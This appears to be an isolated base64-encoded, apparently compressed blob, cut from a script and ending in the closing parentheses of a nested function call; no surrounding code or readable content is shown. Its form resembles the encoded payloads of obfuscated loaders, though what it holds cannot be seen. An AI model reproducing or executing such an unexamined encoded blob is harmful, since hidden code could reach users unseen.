XsoEaoqL24v4r/Dkoxct93TasfVMBcHbhbfw20kFQrNVAbpqkxznBvlPRmsSSE2W/mY30l/XX8WliBlNXO7Ms9MG3owHaFEhku9ywk1ga9ttUoEhv+MXMlWzGokELMmTFwwvCy7Zdk/g6dMK6r3FKB95RPnT9txSl/9mv2sSYupKKMmjox602k7Vz8VswG8b88K9Fwjv05SAI1iUUJmFAaqsbKvs+UtALEk797tKbr4+v2DIowPjcV14oYkCoWdnIXrEzkvFTwp0I4HQehpYv84X49b3H+buSZqBy9hNEj1zvwbul0dwzo+pE7debeEH4Gr9qGH0jvP2SRw32kNt7BicoXSMQqFLMRId73GEBGhOn/tX+icf/ipHVjZiyMqc33Lq+4YBk+xGKc/w5zrBLl6McSLd6CKTsTHolyVGMgeRMNWZKdiwKnPm8zGe0rByju3EyOv2NSedGK9qTWzHb/JOoKd89WIGMiJePnaPq06jvqIrWlW0XxImiO59KyvrNkhZQIaJD2T/oNzu83hIOIn3bMSp3vbj34z/Voo7eha3FAOFl/N7+1/Md7gFXfarjhT0K5bZ6Xxbd18r/C4+Og16/PAhr2z5RdnXDKpzNZZINT3xVJmYJCtRiQO/N3+8OW8iEnNFPIs2k66LcgbCPiI/Zs1pu0tmN9qHBscHmEzZQU304DxNhwI3RUqpN/Qn+TiDgIBGdtWtn1T88ta4h0rqDGejlyTQwSh535fz8/YT5zPVMLKYfPbbu5tfWIXYapmLK7akXPw0la7oY/JcFa1Ka90sz3zxoMT8kTWa+PBOg6y4Eb5QyLjcS1RnPZWnRvUBk81bwcZJbX6nlDet/+Ky8lUUblGB8TXakhfvz8fhc7xPJUOtwjEfEtxBGymbAomqxuBWG+v2453BBFVEMmmBLyTi78Cn0JG54i5w74KRh5BAqGdSrtY7wkpsvOXuviXMxzMEYiW+EKplu7t2enmA3lZuEUYJsqqr011jvTI3P2KbXNkTk4A6hF8WWpK6qC9uc1vjsan2kJskmeb0zKWUXNKdcIvwkhc5Px+XmD8j9uOCz2r9TmrKvCMYH/cbSVxJ8O5LQjtpYzO+zGYkarsDHLTjaYOM17pjtRnDb5vc5g4Fi5ASrT0zU8Obo6TWM7o4Bn3WTFFdgbHbas23ZRANe60XiThUQxTOjr3fD4MTWNVU1GdZQH0kuIxT4D50lBem35rMP1+glZu928InBnzst4vgXcT4ONwGgVWGsCh1LjfcJ16PTU6bKD1pXK24DSmm1luioYAjmtH8I4CEzvVOnfMOzy7qwFPrRfZq/Yp5iIU/YVFfwtEtIvOY2Rbk6bhSk1aH72QbwFZkc+ex8c25/1bbv6d1ljpP1zrxMND8QjwifswHy2jmHmjXZPgAgEdquKO0Eir69a25N0zqhYcQ4/sc915wCZmz2lwSbcvkab6p2HZaE+GgSpaau6oiR99jf49kWU5N+h5HKGIztVpJSjvVgSXtuphFOm6oUAHLt5cW/8M7xu3sbds274ypF/kWrQ2NH+el4PyfeQcom07dQSmttgx5wCYfYDKubdzF8zcmVsRZ1SztKb++1hySg3KwklvWLB5MzApmUt59q3SUIY4cVU1vptALCrHzV1GJuaTnbSDPFhaWc5mjWn1a6DZd2shpFrMZIbj5vtmvyEv17lNTfj49T68Qbnra33OeiYJsc3IwfRpDElg+OrBArPuJ9DLvnS9cajr2RThI8DfFA1j9d+S9rywYxIgVgfxnGZ/J0kpPAq/1F8V23HXFVgO8oqvfI8/2hLd5wQfy5b+Uy+Tb3LXNXz4hZBlhj8UXMQwFpTQ84NNCkK2W8rfDlRBCmZFbMh4IBML1wOy3dhkILsQLnDoRIownHisU+Z43e43QSxAjXI91+esta62PVeR/NQ9yuvBobr0vcWIB3EA7ayGwUoa/VHNBefzzzPkPtnr/Aw6yy0W272ppXSvFXa4XgOYVtOtzO05Lu7zTOx8qf67YM/CTZQljv7HeU5uqtKmVqGkjGNtbd7CDtNpvDJitwMz1tofbiXwtwccZLEwVN173YaYqyopr/NPw4FW/9Y59VuWl0/prl4oA+/WQF3WOp2EqEzYWhRkz/Fxo1EhZhrKvmiysFXgWht6LwrA0GR9SH2yGxbckDXuBfwWCA+6ZZSbZkf9Mf9HbJMbBuoZ+3ALO/60jt1OSDI3+IqQqCatkVbkrjCxm8TPjMdsU+jMUNWmaJX90MqNBFjqL5opNUcytFAGs/g4zOIbj8wAsiB9lM2G/OMbcKKhSV2GnUuQb5YBQFPyU5KSeJXPqPYFnThgwS+EAcDJrAzmLyIfN93kh6hAfbD5Vi5a66Wp7ykWCVxOYu4NDNBVESc0pkbRUn5fKehiAc8l0N18LnPoYtYRgmQJPp8Ld5w1Vl6XVQXLHiyr+KLx9GR4j3kcfdRqS4UPaX2n6gAWHwnM8d3P+HaYzuymWBYbqF97sosWN1Ko5NpmNvoQLrN/F/G7FKtSRFHabgIqh2uyC+lyEk+wFtQl7JKR/dleF4Pm/yJMvP4cJxwcdzgw8LYDn/2z+dMq25R1QYfG5Lvi3fBEVTJwhZdYIK+aHDSFN3mKi1OQreD5C87KYBufUbG8mlV9187sodVrwScrEtEHGb1Yxd9X+7LZ7EvlgnHEFGHm8e0ImKzENo5I9PQ6IeqFb8N+KPd3Qcm6vlqk44hrtEnPfC3VulA0FPv4i/a/Xtu1w1P57IAf/VUmALXizmM3XYYRHkB+xk33OKbaMfnZG+z+3yzfhobUzr5tT5b/7k/4fgn28xk1lyFZS/538I/ag4k8ebCF/ODyfpx9om1dt9Ad/OEtmeGo/2lJ85+fNvk0yZnl1Z5GKP8QMd5DOceosPcJalnWwFqVJnvcO64csVoiKth7N4LqUXfBnUXDFD/J5i5F3tv8JDmLlOQj2vq3716O/Mexviu9FExtt/9auhDHuKH4wmIh9plBdCOf/BdvGT9aVUuFe73mQRKpYFaUz+pOhcacXIsSnaJXbZCQh7W7o9PJmZCjrjXVmpIprEn2OjKl5Wk1t/yXSNcsD6dX4qoPyvn/fVBxM81k68AYMLPg60AnwhtnYFdFEo3GBL2Vp2POERTr8PNcvV4Gv7o8p/0xstnpCcNwvHxYEqmvpDINleiMzrjPvyUP9WQfm3EdfIOvA0dpkyXqEDBZqf63rB2/+iszTROTY11Z/x66IbseRij7fYnhdEqbbaVbX9sHixBSZjGwOFJGvxOkxkpuBOh8VgyQ24HuVlvP3/wQEPdNCAJgo3yY8vz028Hq1MzbRLc8rnIsotPf1g7pdPQoEVvz8mi09XBSp//gkhX8cgBL77H+m2wvMvG+aG78bNop8c0180fJ96Bo0zmv00eNPTr1v0yto8tDgjsCVKDmNtbyJOMK+3VKtt2HjIW+Tp8BAz/9FviPi88mdkXtkDwMUd8S4uPYHbVMntKeO1oxbAJKWiBmiBiJeMqrjmyXlcVfYztK+bv++LPkygVomzN2J7/pv2LpyHz1nbYfBfyep9TR3nrAroyRZn25IdMRKF0KvtCosOpNW6PWsGr2XADehGLIFh6wzVSmFJ8WLyJoLJ8DkkkyAxyFyWsYoY3VwXrdy4S5rZS3Y98Yp3834Tqt9AoEU1sDN+xVpWg6ROsQcIAvJn9d1VxFSixR3y19Kp56rQVkhxXgN+6+4oIxW9+yMpSqgFRLJHKMJCbfElALx3dRSnBkAbTa5U6+xoMKUFrzTJ7Hox1Eee4JYL6Pdlx3b3HeHPr0rEg4BpZwQhpZJfJ6snVzqBMsvxQBzn8aJfE49LYDtkW9EzjdLpFEe0FwGCnHf2/Ksx38kP4svRLDLup2NvzS0xUArTgjTHYSMDBPOlvDoPmcgPhT/At2tR3FYj/KAaW+oHN5IAA3yUfS1+7An8ux4mm/Jtwtg7QHNMRgL2UT7T2mMSuhZKcAm/9pFGksvPp4XT+3hUR+XciiFreV41fw+F4aTb36diwlEF0BW638u6elQRf8kyhXz2peMROWg9JYHIfWSSzSp9zjwuyV9okXokzuQVyThAwhGcx898OonvEnyy7f9TIKtqGE78RbYonN1JblzeYlmoBSRevNpk8O6uR9W0HDmgO3iS2ydlA39btBxRAC5/VNeoIceU9Nm6TjwxnQL5HfA6GbMI9Hrf2hbrwJhrFN5ysRimAb7DjEGWVIOv2re4y5Xq25OyrjR51O/PNd3UVlV9tNwt9wBSDSNH/bCxhUyiSawtqjCD5Zm7WFuXGKpy8CDxN8xs5i0Amvzql4IS3D/PHflHqUr9Uktq0lcymeLD0PyVCeJvyt5bLCwr0t4XYjdlXDFtflhjEZsURLtCFTleD++RiHqoTCnfRBwrtfAC/G/4iGHumsnulAYHOqhIDcMK1x3y7lE/S4mNog/o0GVY/WwwMmcHlKAI1oNGs4d6mbFAt97v6p8s3e1gzhwuOqRrMY/n+PpI/zVAqbwSvzE3Y7icPhbeFrHVsVgYkAdvTiyPRQswK/V4qaBowjvFiko+VZjhjBOD+3kIVsshi6gso7DszQZS+VDiGTRXr8m+7+xv3H12Zh13s3R8+IT1YsPqKj4hh0pXPuBScFwTd61eAlX/hxRgoBKiV4limbt60C5vkYKv1fURU8mar900d9vB+PXvAtJs8zMF51YVenK4H7vS1Qy882z5voENWEvr8iaJKxXy2d253LjM+jqYLCDfYn1O7X4sc1lh68sUCnm4nbU25DjH7gSjz6DVhijF4Nmxhgnk4mjtQjDblPBAxFlB+pYx6q8K+VeTgiJByfQF6u8+QNAkrgrbKSW/ex7QGV9ojqzPSk2GyYP+54lXr0/DxVp2cSEIUxRy4+g095+J9Q+8bCa/OayEg2ia5nRm2NzckzMHinI18zvX0/3VqkFlmAGLm6GvaU+skEL9sOBLuW4JnQHIbINiy5MIm5aBHZCG7aeem9rEEubtIa/8etyNKdJhWtACKDB+6d+Byp5X96NqNh3vektVQA2JRYOqXt/mybE6hWfa7vaNiEQ/8GbUcGN0cMM9koQFydyNUSUJ2FEKThKznWwj0Ol6pgbaFxLG8pQIY5YiFD0Et5y4LbLpLm4Xgkd4+iUyBAZxH6vGUP9sqFGNRrFbh3HUOoUy3I5lQ4dguZ1xqXKlFp/4DPEvgKtT1kd1jMMXyfUbXYv6tNTWWJS8Xm6e6/Pux0Hzjs7BYl0SVccnRejWI9BA8eQiuNIF7+V7rFayDrcH2wg5v6i2LEq8Tl7JjgIbRGG+XbnuBRqeOR+EIzwWu9YW8LsqE/A33Nle6dG7GBFPEOGrkdMJ1kiBVV1iuURsbDBvvatzWnjXUNgWOQnORIqeQja2Hq/ygl3womEgCjO+K6+9IyIz4TGc5GZewHe+JqN1Pmt+3WUNGHq7u07r4nqfuatxAMmvzqaRedty4Md+IG8kRiUhHpo1IImFEuI5YNzFN9nf+QAZOldCXgUEyWh+3mYcMgFI8tJoLsm90YWexL5hCfOkDt09edFROAeHJBbBV8LJQrpMBC1oABbmzGZyOy0CMRxIKAGCwFrZKag8QTeafWAr+Mjy2wi8g1SO4JEnE2G7oY0UUfTOLRX8k/u2B5FtKfsKSa2iEM4a6zBrHF8dlVatE2+ZJjUgzZN45qF3zCR2GhW6HYJwbgEKof2XWrw3wm5XFF2/xbTrt2PzJUFTHbi/aPW5WPd3O/kNKMIrn9LbUoUDsMxQ8mhI6UL2GiqEz8YXIonnoCL42IivJNvhW9l3GeDwhCfDSVFQx8GxJNuUksfsKXOHnLvgjDMi4BOdYZB0DysFf8h+eCP7HnUMsDFaGwf/2G9zpVVg/Y8YVgQcETxgKV02h0HXzu41O7g58DETOZn7rqRmlOjIVfmAT3GEtJhEjjwh/47nDtHp9AbxBeUZnZCae7qQ1K1EO/czuVbOsA77TELhC2DsXeEqHModxVPtrxkK6sl24kkye/ImmpQCZ+DlASMMhQWatY1pcdNGuFzJ1jIVSTwt79lhK7Y/++C5xWl0FE4H85prrVZHjGKi0PWgepAFbiKv3z4PmddbwosoLdSx3UdnZPrKt3eRPiSIDZn39NKVvAHEyFToqdTloATZGjLGxmu4XEUtJpDD0wDJBHd0PbUdS3Vc8l8AblU9c5H3/9Wo0C+QUAOBWg+2XSs+wQliG45hlsURhgksuGCI1APrm5ufytIW5EFGSZsiGFqR8THC9a6qndLD+Acc2oTJgUbbb6rR9uft7ngxJYwjleRlkZNIYCvsrBo/H9Ixtt09hnakHGhsV6FWHxVXAmDB7SNUKPLAa2HVtn0qCG17IGHdmCGQOvXh54g+ApIclQK0v7+pCM2NCuls2ntotIU3WHaTeLHg5u3JLkXbELOB/4SQCPUJQxGXVuwFzrXrfjvo9fh43ViHI3MR3Jwch7Ev1L/LDQZb6VIDG+RFor2Z1QI9Hby6oDvewSf/VyFZ4KHz9wSf77jZo62CDoyQlBQ5NFEisMS/UJIej2Gp5g7ZQ4PQaMNsB0/7BXSd0ILdw8YHwcrPQ1tN6TYTy/lZxJXl4vNZe+VGGf+7IDqvn926chyh1bYv2Pn/HSYKnvbY8q+8xlhDyMvdpdKJRfa2i6tDLkE3rbNONDufK2+Y3aCvDgPefOKfp4ygta/+6WE5ij647klJCcknUs/RZ8abAtp6NnOOwfpiSAROYZ8GnkV9XfpGRkwZOjBwJsLYp+f1V4EZqLAlxSisOyM7LRYMe/cil57FFRD/r0bWvnZoUZhU7qEOSAeve7UjhX3vxGMIZ0HL+4mq60yol3oMeX7DhToiERw1MJHFW2CTSnZ3xv9MCZ/+5E6mkXsr7ljtF2lYMH/9bmsUuyXXzQ9BsYjAEB2Ju5Q2P4jotkjZlko/nXTLTTmnczAPf/TqilxlHECJXi5sGRn/DnmjVEbpxeyxpqBPlNOqsHMGO4OnNJKen0bNluflng2t7odRRKSoAqVG8bVZi17QN+dACStNXLBc5QGEraxnfH8gLz6j9FOXzAvrLFJgDtjA6OJ4uHe/m+5mn5cUPyjXaMAgOOfb57d4nuoDaQk3Jj88oJKu/mh50/f784MdSf8k2OtQE9SZ5olOPnC4e/cxaYlypY0MvYp2/PEQ3/1T1Y/n3WRRMNryXMEyNZGqqRYuAXAC5jEg+463jeiE976NR7judvGJhhDmkK2egY3Eu90FPOz0FOJtMDsxaVE1wt7hXnxaPXJRYf2esct/IAFVTQdTjecFq0fZid3gEl2zIPKoYQtLOVSVkQ1G0KZDuP7G0NHAos2JfQyYHBffH3DtR+HyJ9dMv+PtHn72dPnBmGCIG0PTufo+wP6gJlwNpvySj5kRihp4NojIDUMfNsmozdyXldj2zVMn3OrPc//TlBKVfAHz8TTO0eRXl1EbOY6UueJ44k6WW3ATUOQ9HrXlIiGyt/xtd44RyDavSTjRFohXSf3/MZkHPTmJJRETh2YjB9UCPVjTjCp/tWDlAZIeRj7nPASOZTl3Rk1Ow1FA1YvQ8CfSaFdXioBGpSZyvCvoZALwAVUg//uaIEqWSe4Kq+27UyWk8pgXFLFjlMIwCcK5+bHek30gMUeXvPWrXeEZfqVUaHe6TTVAHaQcy36DDpfkdsh3YXpSROzq1UVRaiOjUvvw9e3Nl2fNy/mvgs20Gy0YBx6X53EmEiKOZLDsQFMI0hMHEXQbJZKrvNqXCrcZ83aGUUnzGIQn0SSW4u2z8uqrP4YFwzwuGVLbzaMF5ZZg6nmxjskeUrJ354ijhJRYqZcgZ9FIupel32UWIPjfr6fx2hf3YGhMCoP6ZSZAculbGudBQsk72oOK9yitrL+kC/aTLoaKEM25s1mbPsUw/3QEAaHqOBnTwSK84zzzfNXwhPo09u+BTrT6B5ZxzM+okQeYh2PvyWt6tZxWAMLYbThCfmO78HRVzxIebg7zz49R+4jYWCxCB8Lh4KQf9JymgBVyIjWYjA41ss2ABhkFago6wkaxk+pKNV60fqUa8cykHQO71+W/QcEiv3nZK3oleod3IcAvYUM1MxM1aZ5ve6YZQB/7GKS41OZ8E2blPFOQBbqZKr212D8B6IrEScI64uZE2bTtZAJ3ifOigJkwyYEtOb+pITEeRG+MG4H1uV7YrYPmfSo900OSIJNWe6FKH2UHSmDSKXwgQWkBpJA79azxt7FKr8zL98TgvNXx+7hgjXgjBJnSkKQZRKH+TlbUfGQ45PaK23SkIgmC2fTWVj0gYKVUwh5TxQPeKp/eaNCVUlEIizKYsLV1rOqaBy5yRnoa9ekx2OIzk9yMdB/K5rywpMfjPPxjIoX2dEDNca9G59s4/30TUZzQFOyM5KDK/JW7FWvTAjpc/xkI3dCSiKGWGEvTg9uQyP/Fx2ouTjufUnAKSA4r68f3ZSbpk5teoEgOQlEYVr4IOd6/tcyGK97LXsABVlNZykXpURsYSiyBHryqed3HatebsNMi7jrhIpQSJ1Nx7fYAXSLIBRAiDfpjg/aMs8JP6mkgtXQQyDwvSy44ckH915+9Hig0650WLNa/VGq4/C7vy5WfXwLW1SU6z9nLiyQcC2NgO4rhnuf8dvhwtQHJSmJw58/+Y/2KphfXGrnB5KnjGv+WIwQglz61tpd6dbVVyV7DQzK3C1VNG1HQDF3LqirqEMPTKD4qPhquXEUDA5gnjFTSyKGlWx/RW7WBX4jLNKm6g2fYo5yJ5WVUBVkpWiO5oAG747CXm+G5C5HL3mq1sQDGNCwJG1qA85ZZNAlhHNmvA8rN/Xk8cer9bReWtAQMVhzJkiT/X3bolfwO8EWdzYlJ1bJiFzI9xqQFZ0x1r+D5k4CopRorZfI3Yt+IYcP0uP7GUhQOHlH69PqMt7UDXCp8YGsNqvj+zDf6jQgejtnzFRPF8Dhxb2yXRLR1g7L1ONb8rZrX2XOqaiRYs/RiLfv4yFMM9SUIgYaRj1nBo+axfwAIkHuFrzCD/ZwTwZ6SihTcMmf2dK6N4bG2FVzSXrwpLl0/OKGOJFof9NIuXzfn0mBgAkENVNJ/8W6uL1Jk5xni/1flVBdNu3VbR4pVbu2LewQMRAMaIec4brc8it7dYMVVgOGBn5Lx5kyeYj7fQf6FAJjUaBJHxMl4KhIbVfQ9zLv/0hPw2Lzd8OZKRKEFwQnK+apdrgX/EAXB+fqJk5Bunrdh8x1pRiHl+D5JCqFVqBlrCGyf84I5pp0lCOSjoD0bfIMv0mw25X2KRtE/5qiue8eerKC9RU88BFkrM1h+qTm+/A9Ivueh7BIGaaPoN8tZI3aEfffACL3TZrSz0I0uSFDE5SBQ/bQ3mKBPcIgVwAouavYm+PfcFsR3lq3G0s5a0w82Yl/a8fnKJdItrRNPa+PRi/FDwfNOKE60CX8Ym2zXnzpRhvmQ9UpsqrgfoZ5IMFwr6114LPUvp8p4vcVN5YU1UbY8rhqsZWjHo2AUBRFe1r3x1/ViwW/2t4zMynac0QLvKghWLf+T5r2HfiH93wA9csOAYeRFzHVWqnaMzxGLY30jZvXkI/zkfxX7kT2Y9zxaKJ5d59AjOHBXeOm1phE4hB05qryeC9fI5heN2Koi+8mkEtwQ+zd8RfhZlsb8tZAoFtCLlBlF/Wd657oYxFj/TopQV+aSUUXYOGOrB5+ItGkhl+50sm1PDt9+aQDJO1DMLktDRF9wtiT+FlE64oky/BS/IvFlz5EYwnrNluYhbTiw12wkz9k1+LfTK6JCfJ0qOUlZ56MEL1DGVgGmdi2TFYMKzW2q1MuTK8UWviLh00sNjLj72boOpNxN6Ca3hFU9+VYzadsv9CYboR/CqGpyY/PdM8AbNJ4qHPHhzFbZ2ipEjBRX4TBl1p/YZRtTzZ4YUHOuZHJnYvGWpVbNGIscwoOPLJ1sikOXodMcfB9QoP0hDu2V5fxQkh/V4IJq0S+z10dN85Ybt07jNaRtxvyEiXhNxmAubFBwGSMP854N4gJ6d2MAfMoa/jNHTJ8wGA5N8MwWncp+tF0QCknjCpO1pn+vc9GSNI3s2WDsKG82h0AWNSFgtlc2wENwKkONDHicvJa6tj8z59jnDIEI4PnElEtQL6xSfrdQxj/jx4wNsncWBhoece6N+U3KxMAuPfK4ySoaeUjZwQXD+dCh1FDcZKz9LBJ05qU9i06M3CaNZncf/F6lU74aRV6QQtTKhzpkj6QOqnv+m1RUu2cTLwJvkx7jBZSa+ZLIh/VVY6XrLXFj28k0TYc7sstffr72AmjuaVaE0op9kp14KiqQu7ndO24M/ikn9RexvAI9npv3Bn15fTcdJlW2pHM8BeBKUy3VrdNs07JtO21iJtX/nM4aTTB2OkWBto5TL8Sk04THYEveZMYRldLrUTEg39z3mdkw2ZCIBZv6toZf+IjNGWvQkbF4WnvRLWNV5VsEqbo90JwSdp3oUZhnRquMV6VsatSUYZsXFrQf9IfKML+h9LBB9l0qK3wysueBihWDV6JPJqbxU7FTM5q8yNDtCEbB/45/mXfe4cgADqYwUf5JddpOZYz3n72hrkI2NuPf8c6A27KYSMrXuhThYmR8VIr7VWKEDTHX2hcYTpu8rZqkpimXjPcC5QtznhT0PNaDXvk7Kmpdo2zDEEH+1rscdhwC7L6KV7tTzK5v/Xf6d9tKmH9fuKRVTvpPLAatoFzIVnup4VWN3f9qERAJ+NfVQgPV3n7Oq6LqbpJFTryTHUry+Nta4EQbBtZTvx0VqecZNnJfhx9AzwguOkKIOxYTssOI9+U5D/AmtDEBdQJgBU2iDwIzJQAP2sY+dKKdAXdc2fOqtys2ABeY2jCZGR6vb7dhg2go2jnaff9WC41c90da9Gk2Ce/9R4qAXFx6X1wMwRYabq/j+g6o6sSijjiaaxIDpf1lTfSkS6eBztLFAvixTc2kuy3BpLN/OafNhIEIpn7YY+2xtUY6u8K0fGgv8ZrV5Mk9r3o1m7RO50JIqamdXOHnli8HN++n0dxBjhu/vMILkQeksqKGLjk95VzCTtg/ErfmNfZAh2CUJE1hxc1fLvqYlDREr8ZUL8GBD7au/0mYQi1AZ2DkcxDZ/uvynIfBjlD1UlmQucfcWB1vp1EXTvsYLkrHIXb9hqPV42ipi+cRIXu5moHWT7ejY6boVtDBsRqRPVhqUQGEC1zIew+ec4+iOxP2SWfvlFQySavW8B6Omx4p8VH2D/goo7MEctJJSjuJU+/2BHQDEwAI8b4CvTgVt+74eBNI/IVDqaEUh5Pb6R6jLNMAGMvL9A/Oig09224/liWcBlMVlRsnyQOtWL70SRSryZwzWI6CKTNX0WGAPTdGr+rkfneaUaaTVL17c1A2uHYpVsLuVTa52ulPW9KopgpZgtzOC6LI4iGHKz7WY7CT6vJgaPFDDWkh0vPK3XrsZmhHNkvA6jAm0KUrQ8683PhHoO/cP2mAk597IIhLReGNJFKZ3V402ENCh1iRvmwHlGlG8WZEcF0PoX6coKwSaFxFDpcoMF2CtAvo9aTOVrru1nHCh8NOh3XsA8OVVSzGOHiGdib5yG9SZ+pICE6Mr0DDetMsgMPpEQQc9V0Cn9Voa6voQLiv4QUwEUeEviuUSENXy+BwKOqAliBxj55ggdMwRDVlR21Bk7+Yj+vt0c4j0Wu6nCDisHChy+wi6j0qmkC2l2iB2y/arsdeq0fzhR+9c6MQtCNccpDLfP99W4BnHhkTjkJiBiz8/Huxbp8vsnWaWydCGGx/SaqqBu4MaImWh1XfaLq7STQGK37r7DlBNhkl5DuJSw98KFg/8VzoBEUSKEpLHPZ7BGTJjvzksl4bFrDzVVmAJmtp9czFRm0+wSo9c81BgHOIAAsvs244Tc5VucFGKHnl474bVbUDO/Y9sGBGzSlGYVWlGpvU/2iCwTcDwmDgbq46fuw8rjRtYDdpbMV94yPmdypITNqjp8s2h6nlawNhoup115VmKt4e9p+SJafJ/GGG3jwhF3t4VPFC885aAbP+/jRJ7VRo+gAW1TjSDF72okhYyGZCg9dbl3ivNym9242pVcepYahD2xqbe3zWjOGYmwUj1/jhxrVoKJX8qEj1wZPOamvtEUXKsbzadz5ywdVLDAPWXPz0bbg5FwcGPYzRdq2KtfqhUCqUoefXKnxQJ/c977p0AdBbCqJdWYbCWaS9RtF1fKO/AUqg/cW8ztrxYleLn9acW6FbYZeJ4g0RdTqb4X+LOTrloQY0h4VSUl1bWgHD+iYKDdhtYQlpPF40wjcEfqbR+Q9d/8H2skgE/kWCCnb6JWvjiJMDG+ABXjIxF7KEKFe/dgda5EBhhZE77CPAzdTvbflde3ZZwdI4KYP7Jr1dlyykG1anmmguebNStW46ZGIsvMQBziKvwlfeGYYQ5BG9NEzapDQuhNSEICO/YZBbKHLFAv2ACjORbwWk5ddIIzJRMXWAF3hUxrUQidGgOmW37T129d9gkWIyuCy3mFmBlGGayylWnl7sll7AaY8oty3Gphy/cmgEpALXstQTw+Rt3GqQ7hQ0VgU6EES2IKIE6OYxHAmMwLQkrqd0TVXoXZCTCrP+5ExV8kFz4+oYxb/e71KngMqH9qdUuMHIGNWf/Or4mphg28Bt37S3Gob9EeefZ+osocJRYQt2otYAg4Sb3l9OFOTH6kQUVBpdpcOQRb7l0lJioqfUIL1ThKD/OmEzQJQryd28Zf08ofdo5xaB9auSB97f+Jx8wTx/hFnMnNjhRFjI+jg9uD39WRb/HWDCkD3vF9V3oZyyoAjX2O9vpYRQoBya+/HWWGepYU0zR67WzGT+F/uRAAVgNPbh/FZRubXvqh6XigqKz8NNj2w5FNzxPvA1y3GazzvRhbg7NhN+/hEyrJVcd9dSpMKD5gjXtrG4mWWKkVWZCAKOFRXc3j2i3prkdiXB3lMt3CrEINfjLi5W6JG9HMp+THGjHv6XhK1UZqXI1RHL0quuX4q1TNi7zzroJ2ONmFytj3KV2gfaH9+k6gIcGPT8plqKzji33YELonaLxqIZ/YW3Rr7ubBMR22NEpy2i8mrsmnEsgMOmE6o1TpLkz9XRVl3CFeT8d6wU20GAtG4bGj6935itE34WkpMLuBzjqhkW6ABHgKFgz2CdvFPXevTvHDl4w3cxqXTX1TjfsFSyN3zImw45eHxN1S6NXzB6ItUcjJ5+1CeR8uz0vk4b8UBrzKDjE4ouaAEuQOkwSbyQcx9OjBQDycVhMosABcTVH7DQQXBmL04eWuDxYc+PUhvEjJ2D/OX4seyL8M7uVuSqgKw+1uudhPgQmw37xY2oM/r5Q65d/Bva1CZ8IcDTY3th9NXg4YAWoMHY5idiybk3NZ9lQGHZu443FXw91oxt3CFbPPiby2E1WLZcGQnJUB/wE5kKFevOIcE1lEvweMse7I94KZuVDg3eAcCrTk9T+j3rHhnkU+rxFK5vyRdGJRHX91Ptfp4WLEJSR0VZpVhHNhFccmvAhUXfJbd1rYu63IgFlEJxOqfihxRWKGm9jYiVcy3eOEtoVytbV09C9hk6eXBp4nALiJeLeE/lpW3u+vJyYyj0a99KgwOYiCLKdlzZo7KUFhZrJXZjStMrK5WkClvVrgdFbL/fOBTsns+GMFKxR0/V0KsVLIAgozBLY8mPv/J9//fnn//MfqyRp19z6p+qXZKKx4pdWP/Mz8qJxOzN3wMDs8Xn+TRWoFxuVsmUwJe'))